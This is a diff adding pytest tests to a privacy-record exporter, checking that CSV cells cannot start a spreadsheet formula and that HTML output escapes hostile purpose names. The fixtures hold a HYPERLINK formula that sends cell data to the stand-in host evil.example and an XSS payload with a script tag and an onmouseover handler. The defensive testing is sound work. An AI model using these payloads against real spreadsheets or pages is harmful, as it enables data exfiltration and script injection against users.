@@ -217,3 +217,51 @@ def test_processor_record_exports() -> None:
     assert doc["dpv:hasDataController"]["@type"] == "dpv:DataController"
     assert all(p["dpv:hasDataProcessor"]["@id"] == doc["dpv:hasDataProcessor"]["@id"]
                for p in doc["dct:hasPart"])
+
+
+def test_csv_cells_never_start_a_formula() -> None:
+    """A manifest text a spreadsheet would run as a formula is written as text (OWASP)."""
+    data = manifest("vekstly").model_dump(mode="json")
+    link = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+    data["purposes"][0]["name"] = {"nb": link, "en": link}
+    data["purposes"][0]["description"] = {"nb": "@SUM(1+1)", "en": "@SUM(1+1)"}
+    record = build_record(Manifest.model_validate(data), "nb")
+    rows = list(csv.DictReader(io.StringIO(to_csv(record), newline="")))
+    assert rows[0]["purpose"] == "'" + link
+    assert rows[0]["purpose_description"] == "'@SUM(1+1)"
+    formula = tuple("=+-@\t\r")
+    assert not [v for row in rows for v in row.values() if v.startswith(formula)]
+
+
+class _Markup(HTMLParser):
+    """The tags, attribute names and text a browser would see in a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: set[str] = set()
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+HOSTILE = '<script>alert(1)</script> "onmouseover=alert(2) x'
+
+
+@pytest.mark.parametrize("lang", ["nb", "en"])
+def test_html_shows_a_hostile_purpose_name_as_text(lang: str) -> None:
+    data = manifest("vekstly").model_dump(mode="json")
+    data["purposes"][0]["name"] = {"nb": HOSTILE, "en": HOSTILE}
+    data["purposes"][0]["description"] = {"nb": HOSTILE, "en": HOSTILE}
+    page = to_html(build_record(Manifest.model_validate(data), lang))  # type: ignore[arg-type]
+    parser = _Markup()
+    parser.feed(page)
+    assert "script" not in parser.tags and "onmouseover" not in parser.attributes
+    # The reader sees the text as written: the heading, the name and the description.
+    assert parser.text.count(HOSTILE) >= 3
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; &quot;onmouseover=alert(2) x" in page
